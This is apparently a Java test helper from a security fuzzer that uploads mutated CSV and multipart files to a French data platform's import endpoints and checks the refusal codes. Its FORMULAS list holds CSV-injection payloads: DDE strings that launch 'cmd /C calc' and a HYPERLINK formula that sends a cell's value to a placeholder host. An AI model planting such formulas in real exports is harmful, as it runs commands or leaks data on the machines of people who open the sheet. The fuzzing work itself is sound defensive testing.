package fr.dataterritoires.e2e.security.fuzz;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import fr.dataterritoires.e2e.security.fuzz.HostileValues.Named;

/**
 * The files the fuzzer uploads to an operation whose body is a file ({@link ApiOperation#isUpload()}): a small valid
 * CSV, as the endpoint documents it, then files changed in one thing each — the content (empty, header only, 5 001
 * lines, a bit over the 4 MB the gateway and the services accept, a broken quote, invalid UTF-8), the format (a
 * workbook, a PDF, NUL bytes, UTF-16: refused with 415 by the platform's {@code UploadedText} whatever the declared
 * type), the declared type, one cell (the hostile strings, formula injection, 100 000 characters) and the multipart
 * form around it (no file part, another part name, no or another boundary, cut short).
 */
final class Uploads {

    /** {@code dataterritoires.http.max-request-size} of the gateway and of the services that take files. */
    static final int LIMIT = 4 * 1024 * 1024;
    static final String BOUNDARY = "dtfuzz-7MA4YWxkTrZu0gW";

    /** A CSV the endpoint reads: its header, one valid line, the separator, and the column of a free text. */
    record Sample(String header, String line, String separator, int textColumn) {

        String csv() {
            return header + "\r\n" + line + "\r\n";
        }

        String withCell(String value) {
            String[] cells = line.split(separator, -1);
            cells[textColumn] = quote(value, separator);
            return header + "\r\n" + String.join(separator, cells) + "\r\n";
        }
    }

    /**
     * The valid files, by operation: roadmaps' item import (a financial line; sent as a dry run, see
     * {@link CaseGenerator}) and commons-calls' préciput import (a project of a programme the fuzzer's funder does not
     * have: the line is refused and the import recorded REJECTED, ADR 0010 — the fuzzer levies nothing on the suite's
     * programmes). Another upload gets a generic two-column CSV.
     */
    static final Map<String, Sample> SAMPLES = Map.of(
            "POST /api/roadmaps/roadmaps/{id}/items/import", new Sample(
                    "kind;title;financialLine.amount;financialLine.year;financialLine.source",
                    "FINANCIAL_LINE;Ligne importée par le fuzzer;10;2027;STATE", ";", 1),
            "POST /api/commons-calls/preciput/imports", new Sample(
                    "projectReference,programmeId,projectFunding",
                    "FUZZ-PROJET-1,6f1c2d3e-0000-4000-8000-00000000f022,1000.00", ",", 0));

    static final Sample GENERIC = new Sample("reference;label", "FUZZ-1;Texte de test du fuzzer", ";", 1);

    /** Formula injection (CSV injection): what a spreadsheet opening an export would run. */
    static final List<Named> FORMULAS = List.of(
            new Named("formula =cmd|", "=cmd|' /C calc'!A0"),
            new Named("formula +SUM", "+SUM(1+1)*cmd|' /C calc'!A0"),
            new Named("formula -2+3", "-2+3+cmd|' /C calc'!A0"),
            new Named("formula @SUM", "@SUM(1+1)*cmd|' /C calc'!A0"),
            new Named("formula HYPERLINK", "=HYPERLINK(\"https://example.invalid/?x=\"&A1,\"ouvrir\")"),
            new Named("formula after tab", "\t=1+1"));

    /** One upload to send: a name, the Content-Type, the body, and the status it must get (0: any refusal or 2xx). */
    record File(String family, String description, String contentType, byte[] body, int expected) {
    }

    private Uploads() {
    }

    static Sample sample(ApiOperation op) {
        return SAMPLES.getOrDefault(op.key(), GENERIC);
    }

    /** The nominal upload: the sample CSV, as the body or in the documented part. */
    static File nominal(ApiOperation op) {
        return file(op, "nominal", "nominal", utf8(sample(op).csv()), "text/csv", 0);
    }

    /** Every upload mutation of the operation, by family. */
    static List<File> mutations(ApiOperation op) {
        Sample s = sample(op);
        List<File> out = new ArrayList<>();
        // the content
        out.add(file(op, "file content", "file: empty", new byte[0], "text/csv", 0));
        out.add(file(op, "file content", "file: header only", utf8(s.header() + "\r\n"), "text/csv", 0));
        StringBuilder many = new StringBuilder(s.header()).append("\r\n");
        for (int i = 0; i < 5_001; i++) {
            many.append(s.line()).append("\r\n");
        }
        out.add(file(op, "file content", "file: 5 001 lines", utf8(many.toString()), "text/csv", 0));
        out.add(file(op, "file content", "file: a bit over the 4 MB limit", overLimit(s), "text/csv", 413));
        out.add(file(op, "file content", "file: unclosed quote", utf8(s.header() + "\r\n\"" + s.line() + "\r\n"),
                "text/csv", 0));
        out.add(file(op, "file content", "file: invalid UTF-8 in a cell",
                withBytes(s, new byte[] {(byte) 0xC3, 0x28, (byte) 0x80}), "text/csv", 0));
        out.add(file(op, "file content", "file: a column twice",
                utf8(s.header() + s.separator() + s.header().split(s.separator())[0] + "\r\n" + s.line()
                        + s.separator() + "x\r\n"), "text/csv", 0));
        out.add(file(op, "file content", "file: unknown column",
                utf8(s.header() + s.separator() + "inconnu\r\n" + s.line() + s.separator() + "x\r\n"), "text/csv", 0));
        // what the file is, whatever it is declared as
        out.add(file(op, "file format", "file: XLSX workbook (ZIP)", xlsx(), "text/csv", 415));
        out.add(file(op, "file format", "file: PDF", utf8("%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"),
                "text/csv", 415));
        out.add(file(op, "file format", "file: Excel 97 workbook",
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1},
                "text/csv", 415));
        out.add(file(op, "file format", "file: NUL bytes in a cell", withBytes(s, new byte[] {0, 0, 0}), "text/csv",
                415));
        out.add(file(op, "file format", "file: UTF-16LE text", s.csv().getBytes(StandardCharsets.UTF_16LE),
                "text/csv", 415));
        for (String declared : List.of("application/pdf", "application/octet-stream",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv;charset=klingon-8")) {
            out.add(file(op, "file format", "file declared as " + declared, utf8(s.csv()), declared, 415));
        }
        // one cell
        List<Named> cells = new ArrayList<>(HostileValues.INJECTION);
        cells.addAll(HostileValues.UNICODE.stream().filter(v -> !v.name().equals("NUL")).toList());
        cells.addAll(FORMULAS);
        cells.add(new Named("cell of 100 000 chars", "x".repeat(100_000)));
        for (Named v : cells) {
            out.add(file(op, "file cell", "file cell = " + v.name(), utf8(s.withCell(String.valueOf(v.value()))),
                    "text/csv", 0));
        }
        // the form around it
        out.addAll(forms(op, s));
        return out;
    }

    private static List<File> forms(ApiOperation op, Sample s) {
        String family = "file multipart";
        List<File> out = new ArrayList<>();
        String type = "multipart/form-data; boundary=" + BOUNDARY;
        byte[] csv = utf8(s.csv());
        String part = op.isMultipart() ? op.filePart() : "file";
        // a raw-body endpoint does not read forms: each is a 415
        int refused = op.isMultipart() ? 0 : 415;
        if (!op.isMultipart()) {
            out.add(new File(family, "file in a multipart form, part " + part, type, form(part, "text/csv", csv), 415));
        } else {
            out.add(new File(family, "form without the file part", type, formField("commentaire", "rien"), 0));
            out.add(new File(family, "file in part 'autre' instead of '" + part + "'", type,
                    form("autre", "text/csv", csv), 0));
            out.add(new File(family, "file part declared application/pdf", type, form(part, "application/pdf", csv), 0));
            out.add(new File(family, "empty file part", type, form(part, "text/csv", new byte[0]), 0));
            out.add(new File(family, "form with no part", type, utf8("--" + BOUNDARY + "--\r\n"), 0));
        }
        // Spring parses any multipart body before choosing the handler: one it cannot parse is a 400 everywhere
        out.add(new File(family, "multipart without boundary", "multipart/form-data", form(part, "text/csv", csv),
                400));
        byte[] whole = form(part, "text/csv", csv);
        byte[] cut = java.util.Arrays.copyOf(whole, whole.length - BOUNDARY.length() - 8);
        out.add(new File(family, "multipart cut short", type, cut, 400));
        // another boundary than the body's: no part at all
        out.add(new File(family, "multipart with another boundary", "multipart/form-data; boundary=autre",
                form(part, "text/csv", csv), refused));
        return out;
    }

    /** A file as the operation takes it: the body itself, or the documented part of a form. */
    private static File file(ApiOperation op, String family, String description, byte[] content, String contentType,
                             int expected) {
        if (!op.isMultipart()) {
            return new File(family, description, contentType, content, expected);
        }
        return new File(family, description, "multipart/form-data; boundary=" + BOUNDARY,
                form(op.filePart(), contentType, content), expected);
    }

    static byte[] form(String part, String contentType, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + part
                + "\"; filename=\"fuzz.csv\"\r\nContent-Type: " + contentType + "\r\n\r\n"));
        out.writeBytes(content);
        out.writeBytes(utf8("\r\n--" + BOUNDARY + "--\r\n"));
        return out.toByteArray();
    }

    private static byte[] formField(String name, String value) {
        return utf8("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value
                + "\r\n--" + BOUNDARY + "--\r\n");
    }

    /** Valid lines past the limit: the size alone must be refused (413), before anything reads the file. */
    private static byte[] overLimit(Sample s) {
        StringBuilder b = new StringBuilder(s.header()).append("\r\n");
        String line = s.withCell("x".repeat(7_000)).substring(s.header().length() + 2);
        while (b.length() < LIMIT + 64 * 1024) {
            b.append(line);
        }
        return utf8(b.toString());
    }

    private static byte[] withBytes(Sample s, byte[] inserted) {
        String csv = s.withCell("AVANT\u0001APRES");
        byte[] bytes = utf8(csv);
        int at = csv.indexOf('\u0001');
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, at);
        out.writeBytes(inserted);
        out.write(bytes, at + 1, bytes.length - at - 1);
        return out.toByteArray();
    }

    private static byte[] xlsx() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(utf8("<Types/>"));
            zip.putNextEntry(new ZipEntry("xl/workbook.xml"));
            zip.write(utf8("<workbook/>"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A CSV field: quoted (inner quotes doubled) when it holds the separator, a quote or a line break. */
    static String quote(String value, String separator) {
        if (value.contains(separator) || value.contains("\"") || value.contains("\n") || value.contains("\r")) {
            return "\"" + value.replace("\"", "\"\"") + "\"";
        }
        return value;
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
